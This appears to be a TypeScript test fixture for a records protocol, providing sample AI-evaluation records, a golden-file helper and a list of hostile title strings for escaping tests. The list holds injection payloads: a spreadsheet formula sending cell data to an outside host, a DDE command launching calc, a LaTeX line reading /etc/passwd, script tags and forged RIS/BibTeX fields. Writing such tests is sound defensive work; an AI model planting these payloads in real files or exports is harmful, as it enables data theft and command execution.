import { readFileSync, writeFileSync } from 'node:fs'
import type { RecordDetail, RecordView } from '@concordance/protocol'
import type { Test } from 'tap'

export const recordId = 'n4bQgYhMfWWaL-qgxVrQFaO_TxsrC4Is0V1sFbDwCgg'
export const otherId = '47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU'
export const base = 'https://node.here.example'
export const at = new Date('2026-03-04T05:06:07.000Z')
export const iat = Date.parse('2026-01-02T03:04:05Z') / 1_000

/** A record as lists show it. */
export function view(changes: Partial<RecordView> = {}): RecordView {
  return {
    recordId,
    iss: 'https://node.institute.example',
    origin: 'node.institute.example/log/1',
    position: 41,
    type: 'evaluation',
    finding: '01890a5d-ac96-774b-bcce-b302099a8057',
    version: 2,
    iat,
    lang: 'en',
    mark: { tlp: 'GREEN', relay: 'none' },
    title: { en: 'Refusal rate on harmful requests', ja: '有害な要求に対する拒否率' },
    status: 'current',
    state: 'open',
    facets: {
      subject: 'Model A',
      developer: 'Lab',
      risk: ['cyber', 'bio'],
      language: ['en', 'sw'],
      protocol: 'Refusals 1',
    },
    verified: { size: 50 },
    ...changes,
  }
}

export function detail(changes: Partial<RecordDetail> = {}): RecordDetail {
  return { ...view(), statement: 'a.b.c', body: '{}', versions: [], ...changes }
}

/** Another label with the group it needs. */
export const amber = {
  tlp: 'AMBER',
  relay: 'none',
  group: { iss: 'https://node.institute.example', finding: '01890a5d-ac96-774b-bcce-b302099a8058' },
} as const

/** What a title can hold: each is a whole, valid text of a record. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://x.example?"&A1,"open")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ' \u00a0=1+1',
  'a;=1+1',
  'a"; =1+1',
  '"},\n@misc{evil, title = {x',
  '}\n@comment{',
  '\\input{/etc/passwd}',
  '\\',
  '{{{',
  '}}}',
  '100 % of $5 & #1 _a_ ~b^c',
  'x\r\nER  - \r\nTY  - EVIL',
  'x\nN1  - forged',
  ']]></title><script>alert(1)</script>',
  '<entry><id>x</id></entry>&amp;<!--',
  '</script><script>alert(1)</script>',
  'a\u0000b\u0001c\u001b[31m\u007f\u0085\ufffe\uffff',
  'abc\u202edcba\u2066x\u200f',
  '\ud800 lone',
  'two,cells "quoted"',
  '\u2028line\u2029paragraph',
  '__proto__',
  'نسبة الرفض 拒否率 👩‍🔬',
]

/** Holds text against a file beside the tests; `UPDATE_GOLDEN=1` writes the file instead. */
export function matchGolden(t: Pick<Test, 'equal'>, name: string, text: string): void {
  const path = `${import.meta.dirname}/golden/${name}`
  if (process.env.UPDATE_GOLDEN) writeFileSync(path, text)
  t.equal(text, readFileSync(path, 'utf8'), name)
}
